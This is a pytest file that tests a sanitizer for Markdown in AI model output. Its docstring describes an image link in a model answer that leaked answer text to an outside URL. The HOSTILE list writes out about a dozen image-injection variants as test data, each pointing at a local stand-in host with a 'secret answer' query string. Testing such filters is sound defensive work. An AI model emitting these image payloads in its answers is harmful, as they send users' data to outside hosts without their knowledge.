"""Case: `![x](http://host/leak.png?d=...)` in an answer made the browser fetch that URL with
text from the answer. `safe_markdown`, which the chat, the Run history and the Markdown
export draw model output through, leaves no image for a real CommonMark parser to render;
links stay clickable with their target shown; code is untouched."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from workbench.safe_markdown import safe_markdown

LEAK = "![x](http://127.0.0.1:9/leak.png?d=the+secret+answer)"
HOSTILE = [
    LEAK,
    '![a](<http://127.0.0.1:9/a b.png> "t")',
    "![ref][r]\n\n[r]: http://127.0.0.1:9/r.png",
    "![shortcut]\n\n[shortcut]: http://127.0.0.1:9/s.png",
    "[![badge](http://127.0.0.1:9/b.png)](http://127.0.0.1:9/link)",
    "![x](http://127.0.0.1:9/a(b).png)",
    "\\\\![x](http://127.0.0.1:9/escaped-backslash.png)",
    "\\`![x](http://127.0.0.1:9/not-code.png)`",
    '<img src="http://127.0.0.1:9/tag.png">',
    "```\nfenced\n```\n![x](http://127.0.0.1:9/after-fence.png)",
    "~~~\n```\n~~~\n![x](http://127.0.0.1:9/after-mixed-fence.png)",
    "> ![quoted](http://127.0.0.1:9/q.png)\n- ![listed](http://127.0.0.1:9/l.png)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_image_survives_a_real_commonmark_parser(text):
    assert "<img" in MarkdownIt("commonmark").render(text) or text.startswith("<img")  # each is an image as written
    assert "<img" not in MarkdownIt("commonmark").render(safe_markdown(text))


def test_links_stay_clickable_with_their_target_and_code_is_untouched():
    text = "See [the docs](https://faust.grame.fr/doc) and `![x](y)`.\n\n```faust\nprocess = _; // ![z](w)\n```\n"
    safe = safe_markdown(text)
    assert "[the docs](https://faust.grame.fr/doc) (`https://faust.grame.fr/doc`)" in safe
    assert "`![x](y)`" in safe and "```faust\nprocess = _; // ![z](w)\n```" in safe
    html = MarkdownIt("commonmark").render(safe_markdown(LEAK))
    assert '<a href="http://127.0.0.1:9/leak.png?d=the+secret+answer">image: x</a>' in html
